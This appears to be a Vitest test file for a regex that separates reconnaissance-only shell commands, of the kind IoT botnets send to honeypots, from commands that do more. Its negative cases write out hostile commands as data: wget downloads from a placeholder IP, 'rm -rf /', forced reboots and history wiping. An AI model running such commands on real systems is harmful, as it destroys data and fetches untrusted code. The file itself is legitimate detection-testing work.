import {DuckDBInstance} from "@duckdb/node-api";
import {beforeAll, describe, expect, it} from "vitest";
import {reconnaissance} from "../../../src/engine/build/reconnaissance.js";

let looks: (command: string) => Promise<boolean>;

beforeAll(async () => {
  const connection = await (await DuckDBInstance.create(":memory:")).connect();
  looks = async command => {
    const reader = await connection.runAndReadAll("SELECT regexp_full_match($1, $2) AS looks", [
      command,
      reconnaissance
    ]);
    return reader.getRowObjectsJS()[0]?.looks === true;
  };
});

describe("a command", () => {
  it.each([
    "",
    "uname -a",
    "/bin/uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "cat /proc/mounts; /bin/busybox PEKPA",
    "cd /tmp || cd /var/run || cd /mnt",
    "ps aux 2>/dev/null | head -n 5",
    "w",
    "enable",
    "sh",
    "crontab -l",
    "cd /tmp\nls -la\n"
  ])("%j only looks round", async command => {
    expect(await looks(command)).toBe(true);
  });

  it.each([
    "wget http://192.0.2.1/x",
    "cat x > y",
    "cat $(wget -O - http://192.0.2.1/x)",
    "uname -a; rm -rf /",
    "uname -a && ./x",
    "sh x.sh",
    "cat x | sh -c reboot",
    "busybox wget http://192.0.2.1/x",
    "awk 'BEGIN {system(\"reboot\")}'",
    "echo `reboot`",
    "ls & reboot",
    "ls\nreboot",
    "crontab -r",
    "history -c",
    "/tmp/w",
    "lsx",
    "top.sh"
  ])("%j does more", async command => {
    expect(await looks(command)).toBe(false);
  });
});
